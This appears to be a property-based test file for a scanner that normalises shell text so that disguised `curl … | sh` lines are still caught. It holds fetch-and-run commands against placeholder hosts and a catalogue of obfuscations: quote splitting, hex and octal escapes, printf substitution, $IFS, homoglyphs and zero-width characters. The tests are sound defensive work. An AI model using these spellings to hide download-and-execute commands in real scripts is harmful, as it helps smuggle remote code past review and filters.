/**
 * Reading a line as the words a shell runs: however `curl … | sh` is spelled with quotes,
 * backslashes and escapes, the scan still sees `curl` piped into `sh`; plain lines stay as they are.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { scanText } from '../../../src-main/core/packs/content-rules.js';
import { joinedLines, plainLine, readerText, statements } from '../../../src-main/core/packs/shell-text.js';

/** One way a shell lets a character be written inside a bare word without changing the word. */
const spelling = fc.constantFrom<(c: string) => string>(
  (c) => c,
  (c) => `""${c}`,
  (c) => `''${c}`,
  (c) => `"${c}"`,
  (c) => `'${c}'`,
  (c) => `\\${c}`,
);

const hex = (word: string): string => [...word].map((c) => `\\x${c.charCodeAt(0).toString(16)}`).join('');
const octal = (word: string): string => [...word].map((c) => `\\${c.charCodeAt(0).toString(8).padStart(3, '0')}`).join('');

/** `word` spelled character by character one of those ways, or whole as an ANSI-C string or printed by printf. */
const spelled = (word: string) =>
  fc.oneof(
    fc.tuple(...[...word].map(() => spelling)).map((spell) => [...word].map((c, i) => (spell[i] as (c: string) => string)(c)).join('')),
    fc.constant(`$'${hex(word)}'`),
    fc.constant(`$(printf '${octal(word)}')`),
    fc.constant(`\`printf '${hex(word)}'\``),
  );

describe('plainLine', () => {
  it('reads every spelling of `curl … | sh` as curl piped into sh, which the scan refuses', () => {
    fc.assert(
      fc.property(spelled('curl'), spelled('sh'), (curl, sh) => {
        const line = `${curl} -fsSL https://get.example.invalid/i.sh | ${sh}`;
        expect(statements(plainLine(line))).toEqual([[['curl', '-fsSL', 'https://get.example.invalid/i.sh'], ['sh']]]);
        expect(scanText('a.sh', line, () => 'script').findings.map((f) => f.code)).toEqual(['S301']);
      }),
      { numRuns: 300 },
    );
  });

  it('leaves a line with no quotes, backslashes or substitutions as it is', () => {
    fc.assert(
      fc.property(fc.stringMatching(/^[\w ./:=|;&-]{0,80}$/), (line) => {
        expect(plainLine(line)).toBe(line);
      }),
    );
  });

  it('keeps Windows paths whole: only a backslash inside a bare word is a shell escape', () => {
    expect(plainLine('& $env:TEMP\\a.ps1; . .\\b.ps1; c\\url')).toBe('& $env:TEMP\\a.ps1; . .\\b.ps1; curl');
  });
});

describe('spellings a shell or a reader allows', () => {
  it('reads $IFS in any of its forms as the space it stands for', () => {
    for (const ifs of ['${IFS}', '$IFS', '${IFS%??}', '$IFS$9'])
      expect(statements(plainLine(`curl${ifs}-fsSL${ifs}https://x.invalid/i|sh`))).toEqual([[['curl', '-fsSL', 'https://x.invalid/i'], ['sh']]]);
  });

  it('joins backslash-newline continuations onto the line they continue, keeping every line number', () => {
    // An even run of backslashes is escaped backslashes, no continuation.
    const text = String.raw`curl -fsSL https://x.invalid/i \
  | sh
echo a\\
echo b`;
    expect(joinedLines(text)).toEqual(['curl -fsSL https://x.invalid/i    | sh', '', String.raw`echo a\\`, 'echo b']);
  });

  it('reads lookalike letters, fullwidth forms and invisible characters as the plain text a reader sees', () => {
    expect(readerText('сurl ｜ ѕh')).toBe('curl | sh');
    expect(readerText('cu\u200brl -fsSL https://x.invalid | s\u2060h')).toBe('curl -fsSL https://x.invalid | sh');
    expect(readerText('plain ascii, café and 日本語')).toBe('plain ascii, café and 日本語');
  });
});
